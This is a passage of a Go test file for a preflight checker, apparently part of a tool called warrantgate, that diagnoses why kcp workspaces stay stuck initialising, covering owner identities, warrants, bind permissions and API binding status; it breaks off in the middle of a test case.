package preflight_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	"github.com/kcp-dev/logicalcluster/v3"
	apisv1alpha2 "github.com/kcp-dev/sdk/apis/apis/v1alpha2"
	corev1alpha1 "github.com/kcp-dev/sdk/apis/core/v1alpha1"
	tenancyv1alpha1 "github.com/kcp-dev/sdk/apis/tenancy/v1alpha1"
	conditionsv1alpha1 "github.com/kcp-dev/sdk/apis/third_party/conditions/apis/conditions/v1alpha1"
	authorizationv1 "k8s.io/api/authorization/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/client/interceptor"

	"warrantgate.dev/internal/identity"
	"warrantgate.dev/internal/preflight"
)

const (
	homeCluster  logicalcluster.Name = "1dz6n4ubraua7pul"
	apisCluster  logicalcluster.Name = "2ckxs5l4w09g7c29"
	childCluster logicalcluster.Name = "m82w61j76ws21znq"
	globalName                       = "system:kcp:serviceaccount:1dz6n4ubraua7pul:default:bot"
)

// newKCP is a kcp with workspace root:org, whose type "team" extends "base" of root:apis. The workspace "child" of alice waits for its API
// bindings. Alice has all permissions for it.
func newKCP() *fakeKCP {
	return &fakeKCP{
		names: map[logicalcluster.Name]string{"root": "root", homeCluster: "root:org", apisCluster: "root:apis", childCluster: "root:org:child"},
		clusters: map[string][]client.Object{
			"root": {
				&tenancyv1alpha1.Workspace{ObjectMeta: metav1.ObjectMeta{Name: "org"}},
				&tenancyv1alpha1.Workspace{ObjectMeta: metav1.ObjectMeta{Name: "apis"}},
				at(logicalCluster(), "root", "root"),
			},
			"root:org": {
				at(logicalCluster(), homeCluster, "root:org"),
				at(&tenancyv1alpha1.Workspace{
					ObjectMeta: metav1.ObjectMeta{Name: "child"}, Spec: tenancyv1alpha1.WorkspaceSpec{Cluster: childCluster.String()},
				}, homeCluster, "root:org"),
				at(&tenancyv1alpha1.WorkspaceType{
					ObjectMeta: metav1.ObjectMeta{Name: "team"},
					Spec: tenancyv1alpha1.WorkspaceTypeSpec{Extend: tenancyv1alpha1.WorkspaceTypeExtension{
						With: []tenancyv1alpha1.WorkspaceTypeReference{{Name: "base", Path: "root:apis"}},
					}},
				}, homeCluster, "root:org"),
			},
			"root:apis": {
				at(logicalCluster(), apisCluster, "root:apis"),
				at(&tenancyv1alpha1.WorkspaceType{
					ObjectMeta: metav1.ObjectMeta{Name: "base"},
					Spec:       tenancyv1alpha1.WorkspaceTypeSpec{DefaultAPIBindings: []tenancyv1alpha1.APIExportReference{{Export: "widgets"}}},
				}, apisCluster, "root:apis"),
				at(&apisv1alpha2.APIExport{ObjectMeta: metav1.ObjectMeta{Name: "widgets"}}, apisCluster, "root:apis"),
			},
			"root:org:child": {childOf(`{"username":"alice"}`)},
		},
		permissions: []string{
			"alice use team root:org", "alice use base root:apis", "alice bind widgets root:apis", "alice create  root:org:child",
		},
	}
}

// impersonated is a service account that somebody impersonated in a logical cluster.
func impersonated(in logicalcluster.Name) string {
	return identity.Owner{
		Username: "system:serviceaccount:default:bot", Groups: []string{"system:authenticated"},
		Extra: map[string][]string{identity.ScopesKey: {"cluster:" + in.String()}},
	}.String()
}

func logicalCluster() *corev1alpha1.LogicalCluster {
	return &corev1alpha1.LogicalCluster{ObjectMeta: metav1.ObjectMeta{Name: "cluster"}}
}

// childOf is the LogicalCluster of the checked workspace.
func childOf(owner string) *corev1alpha1.LogicalCluster {
	lc := at(logicalCluster(), childCluster, "root:org:child")
	lc.Annotations["internal.tenancy.kcp.io/type"] = "root:org:team"
	lc.Annotations["experimental.tenancy.kcp.io/owner"] = owner
	lc.Spec.Initializers = []corev1alpha1.LogicalClusterInitializer{"system:apibindings"}
	lc.Status = corev1alpha1.LogicalClusterStatus{
		Phase: corev1alpha1.LogicalClusterPhaseInitializing, Initializers: lc.Spec.Initializers,
	}
	return lc
}

// terminated is the LogicalCluster of the checked workspace, Ready on kcp v0.32, if its type has a terminator.
func terminated(owner string) *corev1alpha1.LogicalCluster {
	lc := childOf(owner)
	lc.Spec.CreatedBy = &corev1alpha1.OwnerUserInfo{}
	if err := json.Unmarshal([]byte(owner), lc.Spec.CreatedBy); err != nil {
		panic(err)
	}
	lc.Status = corev1alpha1.LogicalClusterStatus{
		Phase: corev1alpha1.LogicalClusterPhaseReady, Terminators: []corev1alpha1.LogicalClusterTerminator{"root:org:team"},
	}
	return lc
}

// withInitializer replaces the checked workspace by one of an owner that waits only for the initializer of its type "team".
func withInitializer(k *fakeKCP, owner string, permissions []rbacv1.PolicyRule) {
	lc := childOf(owner)
	lc.Spec.Initializers = []corev1alpha1.LogicalClusterInitializer{corev1alpha1.LogicalClusterInitializer(homeCluster + ":team")}
	lc.Status.Initializers = lc.Spec.Initializers
	k.clusters["root:org:child"] = []client.Object{lc}
	for _, object := range k.clusters["root:org"] {
		if wt, ok := object.(*tenancyv1alpha1.WorkspaceType); ok {
			wt.Spec.Initializer, wt.Spec.InitializerPermissions = true, permissions
		}
	}
}

func child(k *fakeKCP) *corev1alpha1.LogicalCluster {
	return k.clusters["root:org:child"][0].(*corev1alpha1.LogicalCluster) //nolint:errcheck,forcetypeassert // newKCP put it there
}

func without(permissions []string, permission string) []string {
	var left []string
	for _, r := range permissions {
		if r != permission {
			left = append(left, r)
		}
	}
	return left
}

const (
	touchTeam  = "in root:org, `kubectl annotate workspacetype team --overwrite touched=\"$(date)\"`"
	tryAgain   = "kcp tries again within 17 minutes, and once at each change of the Workspace (repeat it until it is Ready: a conflict ends an attempt)"
	touchChild = tryAgain + ", such as: in root:org, `kubectl annotate workspace child --overwrite touched=\"$(date)\"`"
	retryNext  = "the repair of `warrantgate serve` makes kcp try again within about a minute; without it, run " +
		"`warrantgate repair --under=root:org:child --after=0s` as an administrator of kcp, or annotate the type: " + touchTeam
	grantNext = "apply the objects below in root:apis; kcp up to v0.30 then tries again by itself, and so does the repair of `warrantgate serve` " +
		"within about a minute; without it, run `warrantgate repair --under=root:org:child --after=0s` as an administrator of kcp, or annotate the type: " + touchTeam
)

func TestFindings(t *testing.T) {
	rawServiceAccount := identity.Owner{
		Username: "system:serviceaccount:default:bot", Groups: []string{"system:authenticated"},
		Extra: map[string][]string{identity.ClusterNameKey: {homeCluster.String()}},
	}
	repairNext := "run `warrantgate repair --under=root:org:child --after=0s` as an administrator of kcp; with the gates installed (`warrantgate install kcp`) new workspaces need no repair"
	lent := identity.Owner{Username: "alice", Groups: []string{"system:authenticated"}, Extra: map[string][]string{
		identity.WarrantKey: {identity.Warrant{User: "boss", Groups: []string{"system:kcp:admin"}}.String()},
	}}
	privileged := preflight.Finding{
		Reason: preflight.PrivilegedOwner,
		Message: `the owner, user "alice", has a warrant that must not be stored (system:kcp:admin), such as the administrator's that kcp adds to a request through an ` +
			"APIExport's virtual workspace: kcp creates the default API bindings with its permissions, also those that the owner may not create",
		Next: repairNext,
	}
	foreign := preflight.Finding{
		Reason: preflight.OwnerForeign,
		Message: `the owner, service account default/bot of root:org, is foreign in logical cluster "m82w61j76ws21znq": ` +
			`kcp acts as "system:serviceaccount:default:bot" there, and denies it access`,
		Next: repairNext,
	}
	eventsNeedGroups := preflight.Finding{
		Reason: preflight.EventsNeedGroups, Advisory: true,
		Message: `the workspace requires the groups "ops", so there may be no Events of warrantgate about it: its user can write them only in these ` +
			`groups, or as a service account`,
		Next: `add a clause with a group of warrantgate's user to the required groups of the parent, such as "…;warrantgate-events"; ` +
			"`warrantgate check events`, with the kubeconfig of serve and the path of the parent, says whether it is there",
	}
	scopedAlice := identity.Owner{
		Username: "alice", Groups: []string{"system:authenticated"}, Extra: map[string][]string{identity.ScopesKey: {"cluster:" + homeCluster.String()}},
	}
	const terminatorsNext = "set spec.terminatorPermissions of these types: the controllers of their terminators then act as themselves"
	foreignToTerminators := preflight.Finding{
		Reason: preflight.OwnerForeign, Advisory: true,
		Message: "when the workspace is deleted, terminators whose WorkspaceType has no terminatorPermissions act as its owner, user \"alice\", " +
			`which is foreign in logical cluster "m82w61j76ws21znq": kcp denies what they do, so that the deletion does not finish`,
		Next: terminatorsNext,
	}
	const controllerNext = "check whether its controller runs, and what its log says about logical cluster m82w61j76ws21znq"
	serviceAccountPermissions := []string{globalName + " use team root:org", globalName + " use base root:apis"}

	for name, tc := range map[string]struct {
		given       func(*fakeKCP)
		want        []preflight.Finding
		wantBinding preflight.Answer
		wantVerdict preflight.Answer
	}{
		"nothing is missing, and kcp has not noticed": {
			want: []preflight.Finding{{
				Reason:  preflight.InitializerPending,
				Message: "initializer system:apibindings has not finished, although nothing that it needs is missing",
				Next:    retryNext,
			}},
			wantBinding: preflight.Yes, wantVerdict: preflight.No,
		},
		"nothing is missing, and kcp has an error": {
			given: func(k *fakeKCP) {
				child(k).Status.Conditions = conditionsv1alpha1.Conditions{{
					Type: tenancyv1alpha1.WorkspaceAPIBindingsInitialized, Status: corev1.ConditionFalse,
					Reason: tenancyv1alpha1.WorkspaceInitializedAPIBindingErrors, Message: "encountered errors: no permission to bind",
				}, {Type: "Other", Status: corev1.ConditionFalse, Message: "another condition"}}
			},
			want: []preflight.Finding{{
				Reason: preflight.InitializerPending,
				Message: "initializer system:apibindings has not finished, although nothing that it needs is missing; " +
					"kcp's last error: encountered errors: no permission to bind",
				Next: retryNext,
			}},
			wantBinding: preflight.Yes, wantVerdict: preflight.No,
		},
		"a foreign service account that may bind": {
			given: func(k *fakeKCP) {
				k.clusters["root:org:child"] = []client.Object{childOf(rawServiceAccount.String())}
				k.permissions = append([]string{globalName + " bind widgets root:apis"}, serviceAccountPermissions...)
			},
			want: []preflight.Finding{foreign}, wantBinding: preflight.Yes, wantVerdict: preflight.No,
		},
		"a foreign service account that will lack a permission after the rewrite": {
			given: func(k *fakeKCP) {
				k.clusters["root:org:child"] = []client.Object{childOf(rawServiceAccount.String())}
				k.permissions = serviceAccountPermissions
			},
			want: []preflight.Finding{foreign, {
				Reason:  preflight.BindPermissionMissing,
				Message: `service account default/bot of root:org lacks "bind" on the APIExport "widgets" in root:apis`,
				Next:    "apply the objects below in root:apis, before the repair",
				Grant: grantTo("b7b21d0e91b2ba39b73ccf999daf1144", rbacv1.Subject{
					APIGroup: "rbac.authorization.k8s.io", Kind: "User", Name: globalName,
				}),
			}},
			wantBinding: preflight.No, wantVerdict: preflight.No,
		},
		"a user who may not bind": {
			given: func(k *fakeKCP) { k.permissions = without(k.permissions, "alice bind widgets root:apis") },
			want: []preflight.Finding{{
				Reason:  preflight.BindPermissionMissing,
				Message: `user "alice" lacks "bind" on the APIExport "widgets" in root:apis`,
				Next:    grantNext,
				Grant:   grantTo("f57017e3497b3b519ff162bf020fa687", rbacv1.Subject{APIGroup: "rbac.authorization.k8s.io", Kind: "User", Name: "alice"}),
			}},
			wantBinding: preflight.No, wantVerdict: preflight.No,
		},
		"a user scoped to this workspace, who is anonymous in the workspace of the APIExport": {
			given: func(k *fakeKCP) {
				k.clusters["root:org:child"] = []client.Object{childOf(identity.Owner{
					Username: "alice", Groups: []string{"system:authenticated"},
					Extra: map[string][]string{identity.ScopesKey: {"cluster:" + childCluster.String()}},
				}.String())}
				k.permissions = append(k.permissions, "system:anonymous use team root:org", "system:anonymous use base root:apis")
			},
			want: []preflight.Finding{{
				Reason: preflight.BindPermissionMissing,
				Message: `user "alice" lacks "bind" on the APIExport "widgets" in root:apis; there kcp knows it only as a member of ` +
					`"system:cluster:m82w61j76ws21znq", as all users of that logical cluster`,
				Next:  grantNext,
				Grant: grantTo("b3d62061093a11941849d906b104dd0f", rbacv1.Subject{APIGroup: "rbac.authorization.k8s.io", Kind: "Group", Name: "system:cluster:m82w61j76ws21znq"}),
			}},
			wantBinding: preflight.No, wantVerdict: preflight.No,
		},
		"a user without groups who is scoped to this workspace": {
			given: func(k *fakeKCP) {
				k.clusters["root:org:child"] = []client.Object{childOf(identity.Owner{
					Username: "alice", Extra: map[string][]string{identity.ScopesKey: {"cluster:" + childCluster.String()}},
				}.String())}
				k.permissions = append(k.permissions, "system:anonymous use team root:org", "system:anonymous use base root:apis")
			},
			want: []preflight.Finding{{
				Reason:  preflight.BindPermissionMissing,
				Message: `user "alice" lacks "bind" on the APIExport "widgets" in root:apis`,
				Next:    "create the workspace again as a user who may: in root:apis the owner has no user or group of its own, so no permission can be granted to it alone",
			}},
			wantBinding: preflight.No, wantVerdict: preflight.No,
		},
		"a user scoped to the parent": {
			given: func(k *fakeKCP) {
				k.clusters["root:org:child"] = []client.Object{childOf(identity.Owner{
					Username: "alice", Groups: []string{"system:authenticated"},
					Extra: map[string][]string{identity.ScopesKey: {"cluster:" + homeCluster.String()}},
				}.String())}
			},
			want: []preflight.Finding{
				{
					Reason: preflight.OwnerForeign,
					Message: `the owner, user "alice", is foreign in logical cluster "m82w61j76ws21znq": ` +
						`kcp acts as "alice" there, and denies it access`,
					Next: repairNext,
				},
				{
					Reason: preflight.UsePermissionMissing, Advisory: true,
					Message: `user "alice" lacks "use" on the type root:apis:base; kcp checks it when a workspace is created, and not afterwards`,
				},
				{
					Reason: preflight.BindPermissionMissing,
					Message: `user "alice" lacks "bind" on the APIExport "widgets" in root:apis; there kcp knows it only as a member of ` +
						`"system:cluster:1dz6n4ubraua7pul", as all users of that logical cluster`,
					Next:  "apply the objects below in root:apis, before the repair",
					Grant: grantTo("308e66df43016799a5802745e4d8f1e3", rbacv1.Subject{APIGroup: "rbac.authorization.k8s.io", Kind: "Group", Name: "system:cluster:1dz6n4ubraua7pul"}),
				},
			},
			wantBinding: preflight.No, wantVerdict: preflight.No,
		},
		"a service account that was impersonated in the parent": {
			given: func(k *fakeKCP) {
				k.clusters["root:org:child"] = []client.Object{childOf(impersonated(homeCluster))}
				k.permissions = append(k.permissions, globalName+" use team root:org", "system:anonymous use base root:apis", "system:anonymous bind widgets root:apis")
			},
			want: []preflight.Finding{foreign}, wantBinding: preflight.Yes, wantVerdict: preflight.No,
		},
		"a service account that was impersonated in the parent, of which only the local name may bind": {
			given: func(k *fakeKCP) {
				k.clusters["root:org:child"] = []client.Object{childOf(impersonated(homeCluster))}
				for _, object := range k.clusters["root:org"] {
					if wt, ok := object.(*tenancyv1alpha1.WorkspaceType); ok {
						wt.Spec.Extend.With = nil
						wt.Spec.DefaultAPIBindings = []tenancyv1alpha1.APIExportReference{{Path: "root:org", Export: "widgets"}}
					}
				}
				k.clusters["root:org"] = append(k.clusters["root:org"], at(&apisv1alpha2.APIExport{ObjectMeta: metav1.ObjectMeta{Name: "widgets"}}, homeCluster, "root:org"))
				k.permissions = append(k.permissions, globalName+" use team root:org", "system:serviceaccount:default:bot bind widgets root:org")
			},
			want: []preflight.Finding{foreign, {
				Reason: preflight.BindPermissionMissing,
				Message: `service account default/bot of root:org lacks "bind" on the APIExport "widgets" in root:org; ` +
					`it was impersonated, so only permissions of "` + globalName + `" count`,
				Next: "apply the objects below in root:org, before the repair",
				Grant: &preflight.Grant{Workspace: "root:org", Objects: grantTo("b7b21d0e91b2ba39b73ccf999daf1144", rbacv1.Subject{
					APIGroup: "rbac.authorization.k8s.io", Kind: "User", Name: globalName,
				}).Objects},
			}},
			wantBinding: preflight.No, wantVerdict: preflight.No,
		},
		"a service account that was impersonated elsewhere": {
			given: func(k *fakeKCP) { k.clusters["root:org:child"] = []client.Object{childOf(impersonated(apisCluster))} },
			want: []preflight.Finding{{
				Reason: preflight.OwnerUnusable,
				Message: `service account "system:serviceaccount:default:bot" was impersonated in logical cluster "2ckxs5l4w09g7c29", ` +
					`but its workspace was not created there`,
				Next: "create the workspace again as a user whose home kcp knows",
			}},
			wantBinding: preflight.Unknown, wantVerdict: preflight.No,
		},
		"a user scoped to this workspace, with a warrant of a service account of the APIExport's workspace": {
			given: func(k *fakeKCP) {
				k.clusters["root:org:child"] = []client.Object{childOf(identity.Owner{
					Username: "alice", Groups: []string{"system:authenticated"},
					Extra: map[string][]string{
						identity.ScopesKey: {"cluster:" + childCluster.String()},
						identity.WarrantKey: {identity.Warrant{
							User: "system:serviceaccount:default:binder", Extra: map[string][]string{identity.ClusterNameKey: {apisCluster.String()}},
						}.String()},
					},
				}.String())}
				k.permissions = append(k.permissions, "system:anonymous use team root:org", "system:anonymous use base root:apis")
			},
			want: []preflight.Finding{{
				Reason:  preflight.BindPermissionMissing,
				Message: `user "alice" lacks "bind" on the APIExport "widgets" in root:apis`,
				Next:    grantNext,
				Grant:   grantTo("99db22fc32a25dfda75e2d8417b34c8e", rbacv1.Subject{Kind: "ServiceAccount", Namespace: "default", Name: "binder"}),
			}},
			wantBinding: preflight.No, wantVerdict: preflight.No,
		},
		"a user with an administrator's warrant, who may not bind without it": {
			given: func(k *fakeKCP) {
				k.clusters["root:org:child"] = []client.Object{childOf(lent.String())}
				k.permissions = append(without(k.permissions, "alice bind widgets root:apis"), "boss bind widgets root:apis")
			},
			want: []preflight.Finding{privileged, {
				Reason:  preflight.BindPermissionMissing,
				Message: `user "alice" lacks "bind" on the APIExport "widgets" in root:apis`,
				Next:    "apply the objects below in root:apis, before the repair",
				Grant:   grantTo("f57017e3497b3b519ff162bf020fa687", rbacv1.Subject{APIGroup: "rbac.authorization.k8s.io", Kind: "User", Name: "alice"}),
			}},
			wantBinding: preflight.No, wantVerdict: preflight.No,
		},
		"a user with an administrator's warrant whose workspace is Ready": {
			given: func(k *fakeKCP) {
				ready := childOf(lent.String())
				ready.Status = corev1alpha1.LogicalClusterStatus{Phase: corev1alpha1.LogicalClusterPhaseReady}
				k.clusters["root:org:child"] = []client.Object{ready, binding(apisv1alpha2.APIBindingPhaseBound)}
			},
			want: []preflight.Finding{{
				Reason: preflight.PrivilegedOwner, Message: privileged.Message,
				Next: "delete the API bindings in root:org:child that the owner may not create, or move to a new workspace: the warrant of a Ready workspace " +
					"stays recorded; with the gates installed (`warrantgate install kcp`) new workspaces have none",
			}},
			wantBinding: preflight.Yes, wantVerdict: preflight.No,
		},
		"a service account without a home, with a warrant that cannot be read": {
			given: func(k *fakeKCP) {
				k.clusters["root:org:child"] = []client.Object{childOf(identity.Owner{
					Username: "system:serviceaccount:default:bot", Extra: map[string][]string{identity.WarrantKey: {`{"user":"boss","note":1}`}},
				}.String())}
			},
			want: []preflight.Finding{
				{
					Reason: preflight.OwnerUnusable, Message: `service account "system:serviceaccount:default:bot" does not name its home logical cluster ` +
						`(extra "authentication.kcp.io/cluster-name"), so its workspace is unknown`,
					Next: "create the workspace again as a user whose home kcp knows",
				},
				{
					Reason: preflight.PrivilegedOwner, Next: privileged.Next,
					Message: strings.NewReplacer(`user "alice"`, "service account default/bot of an unknown workspace", "system:kcp:admin", "it cannot be read").Replace(privileged.Message),
				},
			},
			wantBinding: preflight.Unknown, wantVerdict: preflight.No,
		},
		"an APIExport that does not exist": {
			given: func(k *fakeKCP) { k.clusters["root:apis"] = k.clusters["root:apis"][:2] },
			want: []preflight.Finding{{
				Reason:  preflight.APIExportMissing,
				Message: `there is no APIExport "widgets" in root:apis, which the type root:apis:base binds`,
				Next:    "create the APIExport, or remove it from spec.defaultAPIBindings of the type root:apis:base; kcp continues by itself",
			}},
			wantBinding: preflight.No, wantVerdict: preflight.No,
		},
		"a type whose workspace does not exist": {
			given: func(k *fakeKCP) {
				delete(k.clusters, "root:apis")
				k.clusters["root"] = k.clusters["root"][:1]
			},
			want: []preflight.Finding{{
				Reason: preflight.TypeMissing, Message: "the type root:apis:base, which root:org:team extends, does not exist",
				Next: "create it again, or delete the workspace",
			}},
			wantVerdict: preflight.No,
		},
		"a type whose workspace exists, and cannot be reached": {
			given: func(k *fakeKCP) { k.unreachable = []string{"root:apis"} },
			want: []preflight.Finding{{
				Reason:  preflight.Undetermined,
				Message: "the requirements of the type root:apis:base, which root:org:team extends, could not be determined: your kubeconfig does not reach root:apis",
			}},
			wantVerdict: preflight.Unknown,
		},
		"a type on a shard that the front-proxy does not reach": {
			given: func(k *fakeKCP) { k.down = []string{"root:apis"} },
			want: []preflight.Finding{{
				Reason:  preflight.Undetermined,
				Message: "the requirements of the type root:apis:base, which root:org:team extends, could not be determined: the shard that has root:apis is down",
			}},
			wantVerdict: preflight.Unknown,
		},
		"a type that may not be read": {
			given: func(k *fakeKCP) { k.closed = []string{"root:apis"} },
			want: []preflight.Finding{{
				Reason: preflight.Undetermined,
				Message: "the requirements of the type root:apis:base, which root:org:team extends, could not be determined: " +
					`you lack "get" on workspacetypes.tenancy.kcp.io in root:apis, or access to that workspace, or the shard that has it is down`,
			}},
			wantVerdict: preflight.Unknown,
		},
		"a type that may not be read, with the requester in kcp's response": {
			given: func(k *fakeKCP) { k.closed, k.requester = []string{"root:apis"}, "bob" },
			want: []preflight.Finding{{
				Reason: preflight.Undetermined,
				Message: "the requirements of the type root:apis:base, which root:org:team extends, could not be determined: " +
					`you lack "get" on workspacetypes.tenancy.kcp.io in root:apis, or access to that workspace, or the shard that has it is down; ` +
					`kcp authenticates you as "bob"`,
			}},
			wantVerdict: preflight.Unknown,
		},
		"a type that no permission lets a service account read": {
			given: func(k *fakeKCP) {
				k.closed, k.requester = []string{"root:apis"}, "system:serviceaccount:warrantgate:warrantgate"
			},
			want: []preflight.Finding{{
				Reason: preflight.Undetermined,
				Message: "the requirements of the type root:apis:base, which root:org:team extends, could not be determined: " +
					`you lack "get" on workspacetypes.tenancy.kcp.io in root:apis, or access to that workspace, or the shard that has it is down; ` +
					`kcp authenticates you as "system:serviceaccount:warrantgate:warrantgate"; a service account cannot use ` +
					"workspacetypes.tenancy.kcp.io outside its home, whatever its permissions: for that workspace, use the kubeconfig of a user with a client certificate",
			}},
			wantVerdict: preflight.Unknown,
		},
		"no permission to use the type": {
			given: func(k *fakeKCP) { k.permissions = without(k.permissions, "alice use base root:apis") },
			want: []preflight.Finding{{
				Reason: preflight.UsePermissionMissing, Advisory: true,
				Message: `user "alice" lacks "use" on the type root:apis:base; kcp checks it when a workspace is created, and not afterwards`,
			}, {
				Reason:  preflight.InitializerPending,
				Message: "initializer system:apibindings has not finished, although nothing that it needs is missing",
				Next:    retryNext,
			}},
			wantBinding: preflight.Yes, wantVerdict: preflight.No,
		},
		"required groups": {
			given: func(k *fakeKCP) {
				k.permissions = without(k.permissions, "alice create  root:org:child")
				child(k).Annotations["authorization.kcp.io/required-groups"] = "ops"
			},
			want: []preflight.Finding{{
				Reason: preflight.OwnerDenied, Message: `user "alice" may not create APIBindings in root:org:child, which requires the groups "ops"`,
				Next: "create the workspace again as a user in these groups",
			}, eventsNeedGroups},
			wantBinding: preflight.Yes, wantVerdict: preflight.No,
		},
		"required groups of a workspace that is fine": {
			given: func(k *fakeKCP) {
				child(k).Annotations["authorization.kcp.io/required-groups"] = "ops"
				child(k).Status = corev1alpha1.LogicalClusterStatus{Phase: corev1alpha1.LogicalClusterPhaseReady}
				k.clusters["root:org:child"] = append(k.clusters["root:org:child"], binding(apisv1alpha2.APIBindingPhaseBound))
			},
			want: []preflight.Finding{eventsNeedGroups}, wantBinding: preflight.Yes, wantVerdict: preflight.Yes,
		},
		"no owner": {
			given: func(k *fakeKCP) { delete(child(k).Annotations, "experimental.tenancy.kcp.io/owner") },
			want: []preflight.Finding{{
				Reason: preflight.OwnerUnusable, Message: "no owner is recorded, so kcp can impersonate no user",
				Next: "create the workspace again as a user whose home kcp knows",
			}},
			wantBinding: preflight.Unknown, wantVerdict: preflight.No,
		},
		"an API binding that kcp cannot complete": {
			given: func(k *fakeKCP) {
				k.clusters["root:org:child"] = append(k.clusters["root:org:child"], binding(apisv1alpha2.APIBindingPhaseBinding))
			},
			want: []preflight.Finding{{
				Reason: preflight.BindingIncomplete, Message: "APIBinding widgets-12345 to root:apis:widgets is not bound: no reason is given",
				Next: "see `kubectl describe apibinding widgets-12345` in m82w61j76ws21znq",
			}},
			wantBinding: preflight.No, wantVerdict: preflight.No,
		},
		"an API binding whose permission claims kcp cannot apply": {
			given: func(k *fakeKCP) {
				child(k).Status.Conditions = waitingOnBindings
				k.clusters["root:org:child"] = append(k.clusters["root:org:child"], claiming(conditionsv1alpha1.Condition{
					Type: apisv1alpha2.PermissionClaimsApplied, Status: corev1.ConditionFalse, Message: "a webhook denies the labels",
				}))
			},
			want: []preflight.Finding{{
				Reason:  preflight.BindingIncomplete,
				Message: "APIBinding widgets-12345 to root:apis:widgets is bound, but its permission claims are not applied: a webhook denies the labels",
				Next:    "see `kubectl describe apibinding widgets-12345` in m82w61j76ws21znq",
			}},
			wantBinding: preflight.No, wantVerdict: preflight.No,
		},
		"an API binding whose permission claims kcp has not applied yet": {
			given: func(k *fakeKCP) {
				child(k).Status.Conditions = waitingOnBindings
				k.clusters["root:org:child"] = append(k.clusters["root:org:child"], claiming())
			},
			want: []preflight.Finding{{
				Reason:  preflight.BindingIncomplete,
				Message: "APIBinding widgets-12345 to root:apis:widgets is bound, but its permission claims are not applied: no reason is given",
				Next:    "see `kubectl describe apibinding widgets-12345` in m82w61j76ws21znq",
			}},
			wantBinding: preflight.No, wantVerdict: preflight.No,
		},
		"an API binding whose permission claims are applied, or not accepted": {
			given: func(k *fakeKCP) {
				child(k).Status.Conditions = waitingOnBindings
				rejecting := claiming()
				rejecting.Name, rejecting.Spec.PermissionClaims[0].State = "gadgets-12345", apisv1alpha2.ClaimRejected
				rejecting.Spec.Reference.Export.Name = "gadgets"
				for _, object := range k.clusters["root:apis"] {
					if wt, ok := object.(*tenancyv1alpha1.WorkspaceType); ok {
						wt.Spec.DefaultAPIBindings = append(wt.Spec.DefaultAPIBindings, tenancyv1alpha1.APIExportReference{Export: "gadgets"})
					}
				}
				k.clusters["root:org:child"] = append(k.clusters["root:org:child"], rejecting, claiming(conditionsv1alpha1.Condition{
					Type: apisv1alpha2.PermissionClaimsApplied, Status: corev1.ConditionTrue,
				}))
			},
			want: []preflight.Finding{{
				Reason:  preflight.InitializerPending,
				Message: "initializer system:apibindings has not finished, although nothing that it needs is missing",
				Next:    retryNext,
			}},
			wantBinding: preflight.Yes, wantVerdict: preflight.No,
		},
		"an API binding whose permission claims may need another one, which kcp could not create": {
			given: func(k *fakeKCP) {
				child(k).Status.Conditions = conditionsv1alpha1.Conditions{{
					Type: tenancyv1alpha1.WorkspaceAPIBindingsInitialized, Status: corev1.ConditionFalse,
					Reason: tenancyv1alpha1.WorkspaceInitializedAPIBindingErrors, Message: "encountered errors: no permission to bind",
				}}
				k.clusters["root:org:child"] = append(k.clusters["root:org:child"], claiming())
			},
			want: []preflight.Finding{{
				Reason: preflight.InitializerPending,
				Message: "initializer system:apibindings has not finished, although nothing that it needs is missing; " +
					"kcp's last error: encountered errors: no permission to bind",
				Next: retryNext,
			}},
			wantBinding: preflight.Yes, wantVerdict: preflight.No,
		},
		"Ready, with permission claims that are no longer applied": {
			given: func(k *fakeKCP) {
				child(k).Status = corev1alpha1.LogicalClusterStatus{Phase: corev1alpha1.LogicalClusterPhaseReady, Conditions: waitingOnBindings}
				k.clusters["root:org:child"] = append(k.clusters["root:org:child"], claiming())
			},
			wantBinding: preflight.Yes, wantVerdict: preflight.Yes,
		},
		"an initializer of another provider": {
			given: func(k *fakeKCP) { withInitializer(k, `{"username":"alice"}`, nil) },
			want: []preflight.Finding{{
				Reason:  preflight.InitializerPending,
				Message: "initializer 1dz6n4ubraua7pul:team has not finished; that is for the provider of the WorkspaceType root:org:team to do",
				Next:    controllerNext,
			}},
			wantBinding: preflight.Yes, wantVerdict: preflight.No,
		},
		"an initializer of another provider, which acts as a foreign owner": {
			given: func(k *fakeKCP) {
				withInitializer(k, rawServiceAccount.String(), nil)
				k.permissions = slices.Concat(serviceAccountPermissions, []string{globalName + " bind widgets root:apis"})
			},
			want: []preflight.Finding{foreign, {
				Reason: preflight.InitializerPending,
				Message: "initializer 1dz6n4ubraua7pul:team has not finished: the WorkspaceType root:org:team has no initializerPermissions, " +
					"so its controller acts as the owner, whose requests kcp denies",
				Next: "repair the owner: " + repairNext,
			}},
			wantBinding: preflight.Yes, wantVerdict: preflight.No,
		},
		"an initializer of another provider, which has its own permissions": {
			given: func(k *fakeKCP) {
				withInitializer(k, rawServiceAccount.String(), []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"secrets"}, Verbs: []string{"create"}}})
				k.permissions = slices.Concat(serviceAccountPermissions, []string{globalName + " bind widgets root:apis"})
			},
			want: []preflight.Finding{foreign, {
				Reason: preflight.InitializerPending,
				Message: "initializer 1dz6n4ubraua7pul:team has not finished; that is for the provider of the WorkspaceType root:org:team to do, " +
					"with the permissions in spec.initializerPermissions of root:org:team and not as the owner",
				Next: controllerNext + ", for example which of these permissions it lacks",
			}},
			wantBinding: preflight.Yes, wantVerdict: preflight.No,
		},
		"repaired, and Ready only in the Workspace": {
			given: func(k *fakeKCP) {
				lc := childOf(identity.Owner{Username: globalName, Extra: map[string][]string{identity.WarrantKey: {`{"user":"system:serviceaccount:default:bot"}`}}}.String())
				lc.Status.Initializers = nil
				k.clusters["root:org:child"] = []client.Object{lc, binding(apisv1alpha2.APIBindingPhaseBound)}
				k.clusters["root:org"][1].GetAnnotations()["experimental.tenancy.kcp.io/owner"] = `{"username":"system:serviceaccount:default:bot"}`
				k.permissions = []string{globalName + " use team root:org", globalName + " use base root:apis"}
			},
			want: []preflight.Finding{{
				Reason: preflight.NotReady, Message: "all initializers have finished, and kcp is about to report the workspace as Ready",
				Next: "wait some seconds; if it stays, as after an outage of a shard, " + touchChild,
			}},
			wantBinding: preflight.Yes, wantVerdict: preflight.No,
		},
		"Ready": {
			given: func(k *fakeKCP) {
